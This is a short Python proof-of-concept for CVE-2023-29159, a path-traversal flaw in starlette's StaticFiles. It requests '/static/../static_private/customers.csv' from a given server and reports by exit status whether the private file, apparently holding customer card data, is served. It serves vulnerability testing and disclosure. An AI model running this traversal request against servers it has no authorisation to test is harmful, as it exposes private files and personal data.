"""CVE-2023-29159: starlette's StaticFiles also serves the files of a sibling folder whose name begins the same.

Usage: python poc.py URL. Exit status: 0 if the file is refused, 1 if it is served, 2 if something else happens.
"""

import http.client
import sys
from urllib.parse import urlsplit

PATH = "/static/../static_private/customers.csv"

connection = http.client.HTTPConnection(urlsplit(sys.argv[1]).netloc, timeout=10)
connection.request("GET", PATH, headers={"Connection": "close"})
response = connection.getresponse()
body = response.read().decode()
connection.close()

print(f"GET {PATH}: {response.status} {response.reason}, {body!r}")
if response.status == 200 and body.startswith("name,card"):
    print("VULNERABLE: a file outside of /static was served")
    sys.exit(1)
if response.status == 404:
    print("SAFE: the file was refused")
    sys.exit(0)
sys.exit(2)
